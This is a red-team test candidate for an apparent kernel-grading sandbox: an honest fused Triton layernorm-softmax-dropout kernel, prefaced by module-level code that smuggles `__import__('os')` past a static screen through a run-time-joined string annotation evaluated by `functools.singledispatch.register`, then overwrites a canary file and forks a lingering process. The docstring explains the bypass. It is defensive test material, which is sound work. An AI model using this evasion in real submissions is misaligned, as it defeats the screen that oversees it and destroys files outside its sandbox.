"""Red team, issue 33 finding 8: past the screen through `functools.singledispatch`.

`register` on a bare function reads its annotations with `typing.get_type_hints`, which
evaluates a string annotation as code, builtins included. The screen checks the string
annotations written in the source; this one is joined at run time, so no literal spells
anything and, before the fix, no rule fired. With `os` in hand the candidate does what a
hostile one would: overwrite a file outside the sandbox (the test's canary) and leave a
process running. The kernel itself is the honest fused one, so the verdict can only come
from what the prologue did."""

import functools

import torch
import triton
import triton.language as tl

_BOX = []
_PARTS = ["(_BOX.append(_" + "_imp", "ort_" + "_('o", "s')), int)[1]"]
_ANNOTATION = "".join(_PARTS)


@functools.singledispatch
def _dispatch(arg):
    return arg


def _hidden(arg: _ANNOTATION):  # a str at run time: `register` evaluates it
    return arg


_dispatch.register(_hidden)
_os = _BOX[0]

try:  # outside the sandbox this would destroy the trusted side's file
    _fd = _os.open("{{CANARY}}", _os.O_WRONLY | _os.O_TRUNC)
    _os.write(_fd, b"owned")
    _os.close(_fd)
except OSError:
    pass
if _os.fork() == 0:  # a process left behind, carrying the token
    _os.execvp("sh", ["sh", "-c", "sleep 300", "{{TOKEN}}"])


@triton.jit
def _fused_kernel(x_ptr, r_ptr, w_ptr, b_ptr, out_ptr, cols, eps, p, seed, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    offs = tl.arange(0, BLOCK)
    m = offs < cols
    x = tl.load(x_ptr + row * cols + offs, mask=m, other=0.0).to(tl.float32)
    mean = tl.sum(x, axis=0) / cols
    d = tl.where(m, x - mean, 0.0)
    rstd = 1.0 / tl.sqrt(tl.sum(d * d, axis=0) / cols + eps)
    w = tl.load(w_ptr + offs, mask=m, other=0.0).to(tl.float32)
    b = tl.load(b_ptr + offs, mask=m, other=0.0).to(tl.float32)
    y = tl.where(m, d * rstd * w + b, float("-inf"))
    e = tl.exp(y - tl.max(y, axis=0))
    s = e / tl.sum(e, axis=0)
    keep = tl.rand(seed, row * cols + offs) >= p
    r = tl.load(r_ptr + row * cols + offs, mask=m, other=0.0).to(tl.float32)
    out = r + tl.where(keep, s / (1.0 - p), 0.0)
    tl.store(out_ptr + row * cols + offs, out.to(out_ptr.dtype.element_ty), mask=m)


def forward(x, residual, weight, bias, *, p, eps, seed):
    rows, cols = x.shape
    out = torch.empty_like(x)
    _fused_kernel[(rows,)](
        x, residual, weight, bias, out, cols, eps, p, seed, BLOCK=triton.next_power_of_2(cols)
    )
    return out
